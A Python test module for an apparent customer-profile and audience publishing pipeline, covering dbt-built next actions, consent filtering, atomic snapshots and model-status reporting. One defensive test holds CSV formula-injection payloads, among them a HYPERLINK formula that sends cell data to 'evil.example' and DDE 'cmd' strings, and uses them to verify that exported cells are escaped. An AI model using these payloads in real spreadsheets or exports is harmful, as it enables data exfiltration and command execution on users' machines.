"""Profiles and publishing: next actions, consent filtering, atomic snapshots.

The profiles, the model status and the audiences are dbt models (models/profiles, models/audiences, tag
`after_ml`), whose rules dbt's YAML unit tests check case by case; here the fixture builds them with dbt from
the hand-made tables below, once per module, each test gets a copy of that warehouse, and one test that
changes an input builds them again (:func:`rebuild`). Publishing copies what dbt built."""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
import threading
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest

import pulse.activation.publish as publish
from pulse.activation.publish import current_snapshot, publish_snapshot

DBT_PROJECT = Path(__file__).resolve().parents[2] / "dbt_project"
AUDIENCE_NAMES = ("cart_abandoners", "high_intent", "loyal_buyers", "win_back")

NOW = datetime(2026, 11, 1, 12, 0)

# Seven users as of 2026-11-01. Triggers fired in the 7 days before (or not), consent sent (or never).
TABLES = """
create table user_features as select * from (values
    ('u_cart',    date '2026-11-01', 0, 0.5, 2, null),
    ('u_cart_bought', date '2026-11-01', 1, 0.5, 1, 1),
    ('u_active',  date '2026-11-01', 3, 0.0, 1, 5),
    ('u_intent',  date '2026-11-01', 0, 0.0, 3, null),
    ('u_passive', date '2026-11-01', 0, 0.0, 20, null),
    ('u_winback', date '2026-11-01', 2, 0.0, 40, 40),
    ('u_noconsent', date '2026-11-01', 0, 0.0, 20, null)
) t(user_key, as_of_date, purchases, cart_abandonment_rate, days_since_last_visit, days_since_last_purchase);
create table fct_sessions as select * from (values
    ('u_cart_bought', timestamp '2026-10-30 12:00:00', 1)
) t(user_key, session_end, purchases);
create table fct_trigger_firings as select * from (values
    ('cart_abandonment', 'u_cart', timestamp '2026-10-29 10:00:00'),
    ('high_intent', 'u_cart', timestamp '2026-10-29 09:00:00'),
    ('cart_abandonment', 'u_cart_bought', timestamp '2026-10-29 10:00:00'),
    ('cart_abandonment', 'u_passive', timestamp '2026-10-20 10:00:00'),
    ('returning_browser', 'u_passive', timestamp '2026-11-01 00:00:00')
) t(trigger_name, user_key, fired_at);
create table user_category_affinity as select * from (values
    ('u_cart', 'shoes', 3, 1), ('u_cart', 'bags', 1, 2)
) t(user_key, category, product_views, category_rank);
create table user_types as select * from (values
    ('u_cart', 'Intent-driven', 'r'), ('u_cart_bought', 'Intent-driven', 'r'), ('u_active', 'Active', 'r'),
    ('u_intent', 'Intent-driven', 'r'), ('u_passive', 'Passive', 'r'), ('u_winback', 'Passive', 'r'),
    ('u_noconsent', 'Passive', 'r')
) t(user_key, user_type, user_type_rule);
create table segment_assignments as select * from (values
    ('u_cart', 1, 0.5, date '2026-11-01', '3', timestamp '2026-10-30 08:00:00'),
    ('u_cart_bought', 1, 0.5, date '2026-11-01', '3', timestamp '2026-10-30 08:00:00'),
    ('u_active', 2, 0.5, date '2026-11-01', '3', timestamp '2026-10-30 08:00:00'),
    ('u_intent', 3, 0.5, date '2026-11-01', '3', timestamp '2026-10-30 08:00:00'),
    ('u_passive', 4, 0.5, date '2026-11-01', '3', timestamp '2026-10-30 08:00:00'),
    ('u_winback', 2, 0.5, date '2026-11-01', '3', timestamp '2026-10-30 08:00:00'),
    ('u_noconsent', 4, 0.5, date '2026-11-01', '3', timestamp '2026-10-30 08:00:00')
) t(user_key, segment_id, distance_to_centroid, as_of_date, model_version, model_trained_at);
create table segment_names as select * from (values
    ('3', 1, 'Cart abandoners'), ('3', 2, 'Buyers'), ('3', 3, 'Intent shoppers'), ('3', 4, 'Passive visitors')
) t(model_version, segment_id, segment_name);
create table purchase_intent_scores as select * from (values
    ('u_cart', 0.2, date '2026-11-01', '7', timestamp '2026-10-26 02:00:00', timestamp '2026-11-01 06:00:00'),
    ('u_intent', 0.6, date '2026-11-01', '7', timestamp '2026-10-26 02:00:00', timestamp '2026-11-01 06:00:00'),
    ('u_active', 0.3, date '2026-11-01', '7', timestamp '2026-10-26 02:00:00', timestamp '2026-11-01 06:00:00')
) t(user_key, probability, as_of_date, model_version, model_trained_at, scored_at);
create table user_engagement_scores as select user_key, 50.0 as engagement_score from user_features;
create table dim_user_consent as select * from (values
    ('u_cart', true, true), ('u_cart_bought', true, true), ('u_active', true, true), ('u_intent', true, true),
    ('u_passive', true, true), ('u_winback', true, true), ('u_noconsent', true, false)
) t(user_key, consent_analytics, consent_personalization);
"""


def escape_formula(text: str | None) -> str | None:
    """The expected CSV cell of a text: a leading quote when it starts with a formula trigger."""
    return "'" + text if text and text.startswith(publish.FORMULA_TRIGGERS) else text


DBT_HOME: list[Path] = []  # dbt's target and log folder, shared by the module's runs (dbt parses the project once)


def build_activation(warehouse: Path) -> None:
    """dbt's `after_ml` models on ``warehouse`` (its other tables are the hand-made ones), stamped NOW."""
    home = DBT_HOME[0]
    dbt_vars = json.dumps({"profiles_updated_at": NOW.isoformat(sep=" ")})
    proc = subprocess.run(
        # segment_profiles is not published, and needs every feature column the hand-made user_features lacks
        [str(Path(sys.executable).parent / "dbt"), "run", "--select", "tag:after_ml", "--exclude", "segment_profiles"]
        + ["--vars", dbt_vars]
        + ["--target-path", str(home / "target"), "--log-path", str(home / "logs")],
        cwd=DBT_PROJECT,
        env={**os.environ, "PULSE_WAREHOUSE": str(warehouse), "PULSE_HOME": str(home)},
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-2000:]


def rebuild(con: duckdb.DuckDBPyConnection) -> duckdb.DuckDBPyConnection:
    """Close ``con``, build the dbt models again on its file, and return a new connection to it."""
    [[path]] = con.execute("select path from duckdb_databases() where database_name = current_database()").fetchall()
    con.close()
    build_activation(Path(path))
    return duckdb.connect(path)


@pytest.fixture(scope="module")
def built_warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    DBT_HOME[:] = [tmp_path_factory.mktemp("dbt")]
    warehouse = tmp_path_factory.mktemp("publish") / "warehouse.duckdb"
    with duckdb.connect(str(warehouse)) as c:
        c.execute(TABLES)
    build_activation(warehouse)
    return warehouse


@pytest.fixture
def con(built_warehouse: Path, tmp_path_factory: pytest.TempPathFactory) -> duckdb.DuckDBPyConnection:
    copy = tmp_path_factory.mktemp("warehouse") / "warehouse.duckdb"  # beside tmp_path, the exports of the tests
    shutil.copyfile(built_warehouse, copy)
    c = duckdb.connect(str(copy))
    yield c
    c.close()


def profile(con: duckdb.DuckDBPyConnection, user_key: str) -> dict:
    df = con.execute("select * from user_profiles where user_key = ?", [user_key]).df()
    assert len(df) == 1
    return df.iloc[0].to_dict()


def test_triggers_override_the_user_type_in_their_order(con) -> None:
    p = profile(con, "u_cart")
    assert sorted(p["active_triggers"]) == ["cart_abandonment", "high_intent"]
    assert (p["next_action"], p["next_action_reason"]) == ("abandoned-cart email", "trigger: cart_abandonment")
    assert list(p["top_categories"]) == ["shoes", "bags"]
    # the lowest of three scored users: percentile 33.33, decile 7 (the dbt model user_intent_scores ranks them)
    assert (p["intent_probability"], p["intent_decile"], p["intent_model_version"]) == (0.2, 7, "7")


def test_a_cart_abandonment_stops_being_active_once_the_user_buys_and_after_7_days(con) -> None:
    assert list(profile(con, "u_cart_bought")["active_triggers"]) == []  # bought after the firing
    p = profile(con, "u_passive")
    # fired 12 days before the snapshot: not active; fired at the snapshot instant: not before it
    assert list(p["active_triggers"]) == []
    assert p["next_action"] == "retargeting"  # Passive, away 20 days, consented


@pytest.mark.parametrize(
    ("user", "action"),
    [
        ("u_active", "loyalty rewards"),
        ("u_intent", "personalized offer"),
        ("u_cart_bought", "abandoned-cart email"),  # Intent-driven who abandons carts, no active trigger
        ("u_winback", "retargeting"),
        ("u_noconsent", "simplified content"),  # Passive, away, no consent for retargeting
    ],
)
def test_next_action_by_user_type(con, user: str, action: str) -> None:
    assert profile(con, user)["next_action"] == action


def test_only_consented_users_are_published(con, tmp_path: Path) -> None:
    published = publish_snapshot(con, tmp_path, now=datetime(2026, 11, 1, 13, 0, tzinfo=UTC))
    profiles = pq.read_table(published.path / "user_profiles.parquet").column("user_key").to_pylist()
    assert "u_noconsent" not in profiles and len(profiles) == 6
    assert published.manifest["profiles"] == {"file": "user_profiles.parquet", "rows": 6, "users_before_consent": 7}
    everyone = set()
    assert set(published.manifest["audiences"]) == set(AUDIENCE_NAMES)
    for name in AUDIENCE_NAMES:
        rows = pq.read_table(published.path / "audiences" / f"{name}.parquet").to_pylist()
        assert len(rows) == published.manifest["audiences"][name]["rows"]
        everyone |= {r["user_key"] for r in rows}
    assert "u_noconsent" not in everyone
    # the audiences select what they say
    rows = {
        name: set(pq.read_table(published.path / "audiences" / f"{name}.parquet").column("user_key").to_pylist())
        for name in AUDIENCE_NAMES
    }
    assert rows == {
        "cart_abandoners": {"u_cart"},
        "high_intent": {"u_intent", "u_cart"},
        "loyal_buyers": {"u_active"},
        "win_back": {"u_winback"},
    }
    # a user who later withdraws, or never sent consent: dbt's unit tests (models/profiles/user_profiles.yml,
    # consented_profiles.yml, models/audiences/audiences.yml)


def test_the_manifest_and_fixed_path_files_follow_the_current_snapshot(con, tmp_path: Path) -> None:
    first = publish_snapshot(con, tmp_path)
    assert current_snapshot(tmp_path) == first.path
    manifest = json.loads((tmp_path / "manifest.json").read_text())
    assert manifest == first.manifest
    assert set(manifest) >= {"snapshot_id", "published_at", "as_of_date", "model_versions", "profiles", "audiences"}
    assert manifest["as_of_date"] == "2026-11-01" and manifest["model_versions"] == {
        "segments": "3",
        "purchase_intent": "7",
    }
    lines = (tmp_path / "audiences" / "win_back.csv").read_text().splitlines()
    # text cells are quoted (one cell whatever separator a spreadsheet guesses: test_csv_cells_...)
    assert lines[0].startswith("user_key,reason,score") and lines[1].startswith('"u_winback",')
    for _ in range(publish.KEEP_SNAPSHOTS + 2):
        publish_snapshot(con, tmp_path)
    kept = [p for p in (tmp_path / "snapshots").iterdir()]
    assert len(kept) == publish.KEEP_SNAPSHOTS and current_snapshot(tmp_path) in kept


HOSTILE_KEYS = {
    "u_winback": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "u_cart": "+cmd|' /C calc'!A0",
    "u_active": "-2+3",
    "u_intent": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_escaped(con, tmp_path: Path) -> None:
    """OWASP's CSV injection advice: a text cell starting with = + - @ tab or CR gets a leading single quote, and
    text cells are quoted; the Parquet files (and the read API, which serves them) keep the raw values."""
    # in the tables publishing copies (dbt built them from the inputs)
    for table in ("consented_profiles", *(f"audience_{name}" for name in AUDIENCE_NAMES)):
        for key, hostile in HOSTILE_KEYS.items():
            con.execute(f"update {table} set user_key = ? where user_key = ?", [hostile, key])
        con.execute(f"update {table} set segment_name = chr(9) || '=1+1;x' where segment_name = 'Buyers'")
        con.execute(f"update {table} set segment_name = chr(13) || '=2' where segment_name = 'Intent shoppers'")
    snapshot = publish_snapshot(con, tmp_path)
    cells: dict[tuple[str, str], dict[str, str]] = {}  # (audience, user_key in the CSV) -> the CSV row
    raw: dict[tuple[str, str], dict] = {}  # (audience, user_key) -> the Parquet row
    for name in snapshot.audience_rows:
        with (snapshot.path / "audiences" / f"{name}.csv").open(newline="") as fh:
            cells |= {(name, row["user_key"]): row for row in csv.DictReader(fh)}
        table = pq.read_table(snapshot.path / "audiences" / f"{name}.parquet")
        raw |= {(name, row["user_key"]): row for row in table.to_pylist()}
    escaped = {"'" + hostile for hostile in HOSTILE_KEYS.values()}
    assert {key for _, key in cells} >= escaped, sorted(cells)  # every hostile id is in an audience, escaped
    assert {key for _, key in raw} >= set(HOSTILE_KEYS.values())  # the Parquet files keep them raw
    assert len(cells) == len(raw)
    for (name, key), row in cells.items():
        original = raw[name, key[1:] if key in escaped else key]
        for column, value in row.items():
            assert not value.startswith(publish.FORMULA_TRIGGERS), (name, column, value)
            if isinstance(original[column], str):
                assert value == escape_formula(original[column]), (name, column, value)
    assert {row["segment_name"] for row in cells.values()} >= {"'\t=1+1;x", "'\r=2"}
    # a formula trigger inside a cell is left as it is
    assert cells["cart_abandoners", "'" + HOSTILE_KEYS["u_cart"]]["reason"].startswith("cart abandoned; next: ")
    text = (snapshot.path / "audiences" / "win_back.csv").read_text()
    header, first = text.splitlines()[:2]
    assert header == "user_key,reason,score,next_action,segment_name,user_type,intent_probability,as_of_date"
    assert first.startswith('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",')


@pytest.mark.parametrize(
    ("cell", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\r=1", "'\r=1"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("'=1", "'=1"),
        ("", ""),
        (None, None),
    ],
)
def test_formula_escape_in_sql(cell: str | None, escaped: str | None) -> None:
    assert escape_formula(cell) == escaped
    [[from_sql]] = duckdb.execute(f"select {publish.csv_safe_sql('$cell')}", {"cell": cell}).fetchall()
    assert from_sql == escaped


def test_a_failed_publication_leaves_the_current_snapshot_untouched(con, tmp_path: Path) -> None:
    first = publish_snapshot(con, tmp_path)
    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    # an audience whose table is missing (dbt failed to build it): the publication fails part-way
    con.execute(
        "insert into audience_definitions (audience, audience_model, description, audience_rule) "
        "values ('zz_broken', 'audience_zz_broken', 'x', 'x')"
    )
    with pytest.raises(duckdb.Error):
        publish_snapshot(con, tmp_path)
    after = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    assert after == before  # no half-written snapshot left, the pointer and fixed-path files unchanged
    assert current_snapshot(tmp_path) == first.path


def test_a_reader_never_sees_a_half_published_snapshot(con, tmp_path: Path) -> None:
    """A reader follows current.json and reads the manifest and the files while snapshots are published
    back to back: every read is complete and consistent with its manifest."""
    publish_snapshot(con, tmp_path)
    stop, problems, reads = threading.Event(), [], [0]

    def reader() -> None:
        while not stop.is_set():
            try:
                snapshot = current_snapshot(tmp_path)
                manifest = json.loads((snapshot / "manifest.json").read_text())
                rows = pq.read_table(snapshot / "user_profiles.parquet").num_rows
                if rows != manifest["profiles"]["rows"]:
                    problems.append(f"{snapshot.name}: {rows} rows, manifest says {manifest['profiles']['rows']}")
                # one open file: pyarrow's read_table(path) opens a path more than once (footer, then pages),
                # and between two opens a reader can meet two versions of a file replaced in place
                with (tmp_path / "audiences" / "high_intent.parquet").open("rb") as f:
                    fixed = pq.read_table(f).num_rows
                if fixed not in (1, 2):
                    problems.append(f"fixed-path high_intent has {fixed} rows")
                reads[0] += 1
            except FileNotFoundError:
                pass  # a snapshot pruned between reading the pointer and opening it: the reader retries
            except Exception as exc:  # noqa: BLE001 - any other failure is a torn read
                problems.append(repr(exc))

    # u_intent withdraws and gives consent again, snapshot after snapshot: what dbt would build each time is
    # written into the finished tables directly (publishing, not dbt, is under test here)
    for table in ("consented_profiles", "audience_high_intent"):
        con.execute(f"create temp table saved_{table} as select * from {table} where user_key = 'u_intent'")
    thread = threading.Thread(target=reader)
    thread.start()
    for i in range(12):
        for table in ("consented_profiles", "audience_high_intent"):
            con.execute(f"delete from {table} where user_key = 'u_intent'")
            if i % 2 == 0:
                con.execute(f"insert into {table} select * from saved_{table}")
        publish_snapshot(con, tmp_path)
    stop.set()
    thread.join()
    assert problems == [] and reads[0] > 10


# ------------------------------------------------------------------------------------------ model status


def _decide(con: duckdb.DuckDBPyConnection, model: str, status: str, reason: str, when: datetime) -> None:
    from ml.decisions import ModelDecision, record_decision

    record_decision(con, ModelDecision(model, status, reason, decided_at=when.replace(tzinfo=UTC)))


def _status(con: duckdb.DuckDBPyConnection) -> dict[str, tuple[str, str]]:
    return {m: (s, r) for m, s, r in con.execute("select model, status, reason from model_status").fetchall()}


def test_without_decisions_the_fields_are_the_champions_current_values(con) -> None:
    status = _status(con)
    assert status["segments"] == ("current", "from champion version 3, trained 2026-10-30 08:00:00 UTC")
    assert status["purchase_intent"] == ("current", "from champion version 7, trained 2026-10-26 02:00:00 UTC")
    p = profile(con, "u_cart")
    assert (p["intent_status"], p["segment_status"]) == ("current", "current")
    # a user the champion does not score: not active in the 30 days before the snapshot
    p = profile(con, "u_passive")
    assert p["intent_status"] == "not_scored" and p["intent_status_reason"].startswith("not active in the 30 days")


def test_a_refused_training_with_a_champion_carries_its_scores_marked_as_such(con, tmp_path: Path) -> None:
    _decide(con, "purchase_intent_model", "trained", "trained version 7", datetime(2026, 10, 26, 2, 0))
    _decide(con, "purchase_intent_model", "refused", "not enough labelled data: 12 positives", datetime(2026, 11, 2, 2))
    con = rebuild(con)
    state, reason = _status(con)["purchase_intent"]
    assert state == "carried"
    assert reason == (
        "training refused on 2026-11-02: not enough labelled data: 12 positives; values carried from champion "
        "version 7, trained 2026-10-26 02:00:00 UTC"
    )
    p = profile(con, "u_intent")
    assert (p["intent_probability"], p["intent_model_version"], p["intent_status"]) == (0.6, "7", "carried")
    assert p["intent_status_reason"] == reason
    assert profile(con, "u_passive")["intent_status"] == "not_scored"
    manifest = publish_snapshot(con, tmp_path).manifest
    assert manifest["model_status"]["purchase_intent"] == {
        "status": "carried",
        "reason": reason,
        "model_version": "7",
        "model_trained_at": "2026-10-26 02:00:00",
        "latest_decision": "refused",
        "decided_at": "2026-11-02 02:00:00",
    }
    assert manifest["model_status"]["segments"]["status"] == "current"
    published = pq.read_table(tmp_path / "audiences" / "high_intent.parquet").column("user_key").to_pylist()
    assert "u_intent" in published  # the carried scores still select the audience
    rows = pq.read_table(current_snapshot(tmp_path) / "user_profiles.parquet").to_pylist()
    assert {r["intent_status"] for r in rows} == {"carried", "not_scored"}


# A refusal without a champion, the latest decision counting, no model yet: the rules of model_status are dbt's
# unit tests (models/profiles/model_status.yml, user_profiles.yml).
